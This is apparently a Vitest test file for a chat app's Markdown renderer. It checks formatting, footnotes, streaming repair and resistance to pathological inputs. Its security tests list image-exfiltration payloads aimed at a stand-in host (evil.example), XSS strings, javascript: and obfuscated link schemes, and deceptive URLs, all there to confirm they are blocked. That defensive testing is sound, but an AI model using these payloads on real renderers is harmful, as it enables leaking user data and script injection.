import { I18nProvider } from "@lingui/react"
import type { ReactNode } from "react"
import { renderToString } from "react-dom/server"
import { describe, expect, it } from "vitest"
import { i18nIn } from "#app/language/i18n.ts"
import { highlight } from "#app/features/markdown/highlight.ts"
import { createBlockReader } from "#app/features/markdown/blocks.ts"
import { repairEnd } from "#app/features/markdown/growing.ts"
import { Markdown } from "#app/features/markdown/markdown.tsx"
import { readReplies } from "#app/features/markdown/read-replies.ts"
import { ReadingsContext, type Readings } from "#app/features/markdown/readings.ts"
import { renderPage } from "../support/render-page.ts"

/** A reply as a page contains it. */
async function show(text: string) {
  return draw(text, await readReplies([answerOf(text)]))
}

function answerOf(text: string): Parameters<typeof readReplies>[0][number] {
  return { role: "assistant", status: "completed", parts: [{ type: "text", text }] }
}

const draw = (text: string, readings: Readings) => render(<Markdown text={text} />, readings)

const render = (content: ReactNode, readings: Readings) => renderToString(inContext(content, readings))

const inContext = (content: ReactNode, readings: Readings) => (
  <I18nProvider i18n={i18nIn("en")}>
    <ReadingsContext value={readings}>{content}</ReadingsContext>
  </I18nProvider>
)

/** A reply that is still streaming. */
function showGrowing(text: string) {
  const blocks = createBlockReader().read(text, { isGrowing: true })
  return render(<Markdown text={text} isGrowing />, new Map([[text, blocks]]))
}

/** Elements that request nothing on their own. */
const QUIET = new Set(["div", "p", "span", "a", "table", "thead", "tbody", "tr", "th", "td"])

/** What a browser takes for a tag: `<` in text is escaped as `&lt;`. */
function tagsOf(html: string) {
  return [...html.matchAll(/<(\w+)([^>]*)>/g)].map(([, name = "", attributes = ""]) => ({ name, attributes }))
}

function wordsOf(html: string) {
  return html.replace(/<[^>]*>/g, "").replaceAll("\u00a0", " ")
}

describe("a reply in Markdown", () => {
  it.each([5_000, 30_000])(
    "has no kerning around a run of %i characters, which would be shaped for each line",
    async (length) => {
      expect(await show(`The sea: ${"x".repeat(length)}`)).toContain("[font-kerning:none]")
      expect(await show("The sea ".repeat(length / 8))).not.toContain("[font-kerning:none]")
    },
  )

  it("has headings below the page's own, lists, tables, code and emphasis", async () => {
    const html = await show(
      "# Tides\n\nThey **rise** and *fall*.\n\n1. in\n2. out\n   - slowly\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```ts\nlet x = 1 < 2\n```",
    )
    expect(html).toMatch(/<h3[^>]*>Tides<\/h3>/)
    expect(html).not.toMatch(/<h[12]/)
    expect(html).toMatch(/<strong[^>]*>rise<\/strong>/)
    expect(html).toMatch(/<ol[^>]*>.*<ul[^>]*>.*slowly/)
    expect(html).toMatch(/<th[^>]*>.*a.*<\/th>/)
    expect(html).toContain("let x = 1 &lt; 2")
  })

  it.each([
    "![leak](https://evil.example/p.png?of=secret)",
    "![leak][1]\n\n[1]: https://evil.example/p.png?of=secret",
    "![leak](//evil.example/p.png)",
    "![leak](/\\evil.example/p.png)",
    "![leak](/files/../redirect?to=https://evil.example)",
    "![leak](data:image/svg+xml;base64,PHN2Zz4=)",
    '<img src="https://evil.example/p.png">',
    '<img src=x onerror="alert(1)">',
    "[![leak](https://evil.example/p.png)](https://evil.example)",
    "<picture><source srcset=https://evil.example/p.png></picture>",
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    "<svg><image href='https://evil.example/p.png'/></svg>",
    "| ![leak](https://evil.example/p.png) |\n| - |\n| ![leak](https://evil.example/p.png) |",
    "<style>@import url(https://evil.example/a.css)</style>",
    "<script>alert(1)</script>",
    '<iframe src="https://evil.example"></iframe>',
  ])("requests nothing when it is shown: %s", async (text) => {
    const asking = tagsOf(await show(text)).filter(
      ({ name, attributes }) => !QUIET.has(name) || /\b(src|srcset|style|on\w+)=/.test(attributes),
    )
    expect(asking).toEqual([])
  })

  it("shows images of this site", async () => {
    expect(await show("![a chart](/api/files/01a1fabb-7bb3-7c55-803b-f2a3db625462)")).toContain(
      'src="/api/files/01a1fabb-7bb3-7c55-803b-f2a3db625462"',
    )
  })

  it.each([
    "[here](javascript:alert(1))",
    "[here](JaVaScRiPt:alert(1))",
    "[here](&#106;avascript:alert(1))",
    "[here](java\tscript:alert(1))",
    "[here](vbscript:x)",
    "[here](data:text/html,<script>alert(1)</script>)",
    "[here](file:///etc/passwd)",
    "[here](//evil.example)",
    "[here](/\\evil.example)",
    "[here](</\t/evil.example/login>)",
    "[here](/\t/evil.example/login)",
    "[here](/x\\evil.example)",
    "[here][1]\n\n[1]: </\t/evil.example/login>",
    "[here](https://bank.example@evil.example)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">here</a>',
  ])("has no link that deceives or runs code: %s", async (text) => {
    expect(await show(text)).not.toMatch(/<a\b/)
  })

  it("shows where a link leads, and sends that site no referrer", async () => {
    const html = await show("[your bank](https://evil.example/login)")
    expect(html).toMatch(/<a href="https:\/\/evil\.example\/login" title="https:\/\/evil\.example\/login"/)
    expect(html).toMatch(/rel="noreferrer noopener nofollow"/)
    expect(wordsOf(html)).toBe("your bank (evil.example)")
    expect(wordsOf(await show("https://example.org/a"))).toBe("https://example.org/a")
  })

  it("shows HTML as plain text", async () => {
    expect(wordsOf(await show("a <b>bold</b> word"))).toBe("a &lt;b&gt;bold&lt;/b&gt; word")
  })

  it.each([
    [
      "ten thousand nested lists",
      Array.from({ length: 10_000 }, (_, i) => `${" ".repeat(2 * i)}- x`)
        .join("\n")
        .slice(0, 199_000),
    ],
    ["ten thousand nested lists in a line", `${"- ".repeat(10_000)}x`],
    ["ten thousand nested quotations", `${"> ".repeat(10_000)}x`],
    ["ten thousand numbered lists in a line", `${"1. ".repeat(10_000)}x`],
    ["a million characters in a line", "x".repeat(1_000_000)],
    ["a long line of stars", "*".repeat(50_000)],
    ["a long line of brackets", "[".repeat(50_000)],
    ["many images that never end", "![".repeat(20_000)],
    ["many links that never end", "[a](".repeat(20_000)],
    ["a long line of backticks", "`".repeat(50_000)],
    ["backticks of every length", Array.from({ length: 400 }, (_, i) => "`".repeat(i + 1)).join(" ")],
    ["open emphasis", "*a ".repeat(20_000)],
    ["underscores", "_a".repeat(20_000)],
    ["open HTML", "<a ".repeat(20_000)],
    ["entities", "&a".repeat(20_000)],
    [
      "a wide table",
      `|${" a |".repeat(2_000)}\n|${" - |".repeat(2_000)}\n${`|${" b |".repeat(2_000)}\n`.repeat(5)}`,
    ],
    ["white space", `a${" ".repeat(100_000)}b`],
    ["new lines", `a${"\n".repeat(100_000)}b`],
    ["tildes", "~".repeat(50_000)],
    ["addresses", "https://".repeat(10_000)],
    ["at signs", "a@".repeat(20_000)],
    ["dots", "www.".repeat(20_000)],
    ["dollars", "$a ".repeat(20_000)],
    ["open formulas in a line", "\\(".repeat(9_000)],
    ["open formulas in lines", "$$\n\n".repeat(40_000)],
    ["open formulas in brackets", "\\[\n\n".repeat(40_000)],
    ["formulas among many paragraphs", "a $ b\n\n".repeat(20_000)],
    ["footnotes", "[^a]".repeat(4_500)],
    ["footnotes inside one another", `${"[^a]: ".repeat(3_000)}x`],
    ["footnotes and quotations inside one another", `${"[^a]: > ".repeat(2_000)}x`],
    ["footnotes that refer to one another", "a[^1]\n\n[^1]: b[^2]\n\n[^2]: c[^1]"],
    ["footnotes among many lines", "[^a]: b\n".repeat(2_000)],
    ["open footnotes", "[^".repeat(9_000)],
  ])("finishes rendering %s", async (_, text) => {
    const readings = await readReplies([answerOf(text)])
    const html = await renderPage(inContext(<Markdown text={text} />, readings))
    expect(html.length).toBeGreaterThan(0)
  })
})

const whole = `Some **strong words** and \`code\`, see [the manual](https://example.org/a) and ![a chart](/api/files/x).

A list:

- *one*
- two with ~~three~~

| a | b |
| - | - |
| 1 | 2 |

\`\`\`ts
const x = "**not strong**"
\`\`\`

[later]: https://example.org/later

Then $e = mc^2$, and [a word][later] that is explained above.`

describe("a growing reply", () => {
  it("never shows unfinished mark-up, at any character", async () => {
    const reader = createBlockReader()
    const prose = whole.slice(0, whole.indexOf("```"))
    for (let end = 1; end <= prose.length; end++) {
      const blocks = reader.read(prose.slice(0, end), { isGrowing: true }) ?? []
      const words = wordsOf(await show(blocks.map(({ raw }) => raw).join("\n\n")))
      expect(words, prose.slice(0, end)).not.toMatch(/[*~`|]|\]\(|!\[/)
    }
  })

  it("never turns a paragraph into a heading because a list begins below it", () => {
    expect(repairEnd("A list:\n-")).toBe("A list:")
    expect(repairEnd("A list:\n- one")).toBe("A list:\n- one")
  })

  it.each([
    ["**stro", "**stro**"],
    ["**strong** and *", "**strong** and "],
    ["a ~~wrong", "a ~~wrong~~"],
    ["`let x", "`let x`"],
    ["see [the manual](https://exam", "see the manual"],
    ["see ![the chart](/api/fi", "see "],
    ["2 * 3", "2 * 3"],
    ["snake_case_name", "snake_case_name"],
    ["| a | b", ""],
  ])("is repaired at its end: %s", (text, repaired) => {
    expect(repairEnd(text)).toBe(repaired)
  })

  it("ends up the same however it was split", () => {
    for (const step of [1, 7, 40]) {
      const reader = createBlockReader()
      for (let end = step; end < whole.length; end += step) {
        reader.read(whole.slice(0, end), { isGrowing: true })
      }
      const grown = reader.read(whole, { isGrowing: false })
      expect(grown).toEqual(createBlockReader().read(whole, { isGrowing: false }))
    }
  })

  it("parses only its end again", () => {
    const reader = createBlockReader()
    const before = reader.read("# One\n\nTwo\n\nThree\n\nFo", { isGrowing: true })
    const after = reader.read("# One\n\nTwo\n\nThree\n\nFour", { isGrowing: true })
    expect(after?.slice(0, 3).map((block, at) => block === before?.[at])).toEqual([true, true, true])
  })
})

describe("a server-rendered reply", () => {
  it.each([
    whole,
    "- [x] done\n- [ ] not\n\n  a **loose** item\n\n1. one\n   > quoted `code`\n2. two",
    "![a chart](/api/files/01a1fabb-7bb3-7c55-803b-f2a3db625462) and ![one](https://evil.example/a.png)",
    "<details>\n\na <b>bold</b> word\n\n</details>\n\n***\n\n[**strong** words](https://example.org/a) \\* &amp; ~~no~~",
    "$$\na^2\n$$\n\nIt is \\(b\\).",
    `${"> ".repeat(20)}deep **words**`,
    Array.from({ length: 20 }, (_, depth) => `${"  ".repeat(depth)}- at *${depth}*`).join("\n"),
    "x".repeat(30_000),
  ])("looks as if the browser had rendered it: %s", async (text) => {
    const read = createBlockReader().read(text, { isGrowing: false })
    expect(await show(text)).toBe(draw(text, new Map([[text, read]])))
  })
})

function idsOf(html: string) {
  return [...html.matchAll(/ id="([^"]*)"/g)].map(([, id = ""]) => id)
}

function linksThatLeadNowhere(html: string) {
  const ids = new Set(idsOf(html))
  return [...html.matchAll(/ href="#([^"]*)"/g)].filter(([, id = ""]) => !ids.has(id))
}

describe("footnotes", () => {
  const noted = "High[^a] and low[^b] tides, high[^a] again.\n\n[^a]: *Twice* a day.\n[^b]: Six hours later."

  it("are numbered in the order of their references and listed at the end, with links both ways", async () => {
    const html = await show(`[^b]: Six hours later.\n\nHigh[^a], low[^b].\n\n[^a]: *Twice* a day.\n\nMore.`)
    expect(wordsOf(html)).toBe("High1, low2.More.Twice a day. ↩Six hours later. ↩")
    expect(html).toMatch(/<sup[^>]*><a[^>]*role="doc-noteref"/)
    expect(html).toMatch(/<section[^>]*role="doc-endnotes"[^>]*aria-label="Footnotes"/)
    expect(linksThatLeadNowhere(html)).toEqual([])
  })

  it("link back to each of their references, each with a distinct name", async () => {
    const html = await show(noted)
    expect([...html.matchAll(/aria-label="(Back[^"]*)"/g)].map(([, name]) => name)).toEqual([
      "Back to reference 1",
      "Back to reference 1-2",
      "Back to reference 2",
    ])
    expect(linksThatLeadNowhere(html)).toEqual([])
  })

  it("have distinct ids in each message of a page", async () => {
    const readings = await readReplies([answerOf(noted)])
    const html = render(
      <>
        <Markdown text={noted} />
        <Markdown text={noted} />
      </>,
      readings,
    )
    const ids = idsOf(html)
    expect(ids.length).toBe(2 * 5)
    expect(new Set(ids).size).toBe(ids.length)
    expect(linksThatLeadNowhere(html)).toEqual([])
  })

  it.each([
    [
      "more than one paragraph",
      "a[^1]\n\n[^1]: one\n\n    two\n\n    - three\n\nafter",
      "a1afteronetwothree ↩",
    ],
    ["lines that continue below", "a[^1]\n\n[^1]: one\ntwo\n\nafter", "a1afterone\ntwo ↩"],
    ["the line below a paragraph", "a[^1]\n[^1]: one", "a1one ↩"],
    ["a URL", "a[^1]\n\n[^1]: https://example.org/a", "a1https://example.org/a ↩"],
    ["a table's cell", "| a[^1] |\n| - |\n| b[^1] |\n\n[^1]: one", "a1b1one ↩ ↩2"],
    ["bold text and list items", "- **a[^1]**\n\n[^1]: one", "a1one ↩"],
    ["a quotation", "> a[^1]\n>\n> [^1]: one", "a1one ↩"],
    ["a footnote", "a[^1]\n\n[^2]: two\n\n[^1]: one[^2]", "a1one2 ↩two ↩"],
  ])("are found with or in %s", async (_, text, words) => {
    const html = await show(text)
    expect(wordsOf(html)).toBe(words)
    expect(linksThatLeadNowhere(html)).toEqual([])
  })

  it("lose no text: a reference without a footnote stays as written, and an unused footnote is listed", async () => {
    expect(wordsOf(await show("a[^1] and `[^2]`\n\n[^2]: two\n\n[^2]: again"))).toBe("a[^1] and [^2]twoagain")
    expect(wordsOf(await show("```\n[^1]: one\n```"))).toContain("[^1]: one")
  })

  it("are not linked inside a link", async () => {
    const html = await show("[a[^1]](https://example.org/) and [^1](https://example.org/b)\n\n[^1]: one")
    expect(html).not.toMatch(/<a[^>]*>(?:(?!<\/a>).)*<a/)
    expect(html).toContain('href="https://example.org/b"')
  })

  it.each([
    "__proto__",
    "constructor",
    '"><script>alert(1)</script>',
    "a&b",
    "javascript:alert(1)",
    "ü".repeat(90),
  ])("interpret nothing in a label like %s", async (label) => {
    const html = await show(`a[^${label}]\n\n[^${label}]: one`)
    expect(wordsOf(html)).toBe("a1one ↩")
    expect(idsOf(html).every((id) => /^[\w-]+$/.test(id))).toBe(true)
  })

  it("show a number until their text arrives, and never raw mark-up", () => {
    for (let end = 1; end <= noted.length; end++) {
      const html = showGrowing(noted.slice(0, end))
      expect(wordsOf(html), noted.slice(0, end)).not.toMatch(/[[\]^*]/)
      expect(linksThatLeadNowhere(html), noted.slice(0, end)).toEqual([])
    }
    expect(showGrowing("High[^a] tide")).toMatch(/High<sup[^>]*>1<\/sup> tide/)
  })

  it("are the same when rendered on the server", async () => {
    const read = createBlockReader().read(noted, { isGrowing: false })
    expect(await show(noted)).toBe(draw(noted, new Map([[noted, read]])))
  })
})

describe("formulas", () => {
  it.each([
    ["It is $e = mc^2$.", "e = mc^2"],
    ["It is \\(e = mc^2\\).", "e = mc^2"],
    ["$$\na^2\n$$", "a^2"],
    ["\\[\na^2\n\\]", "a^2"],
    ["Then:\n\\[ a^2 \\]\nand on.", "a^2"],
  ])("are recognised in %s", async (text, tex) => {
    expect(await show(text)).toMatch(new RegExp(`<code[^>]*>${tex.replace("^", "\\^")}</code>`))
  })

  it.each(["from $5 to $10", "costs $ 5 and $ 6", "a\\$b$ c", "`$x$`"])(
    "are not confused with money: %s",
    async (text) => {
      expect(await show(text)).not.toMatch(/<code[^>]*text-muted/)
    },
  )
})

describe("syntax highlighting", () => {
  it("loses no character of the code", async () => {
    const code = `const a = "<b>&amp; 'x'</b>" // </span>\nexport class B {}\n`
    const pieces = await highlight(code, "ts")
    expect(pieces?.map(({ text }) => text).join("")).toBe(code)
    expect(pieces).toContainEqual({ text: "const", scope: "keyword" })
    expect(pieces).toContainEqual({ text: "B", scope: "title.class" })
  })

  it("is skipped for unknown languages and very long code", async () => {
    expect(await highlight("x", "klingon")).toBeNull()
    expect(await highlight("x", "constructor")).toBeNull()
    expect(await highlight("x\n".repeat(20_000), "ts")).toBeNull()
  })
})
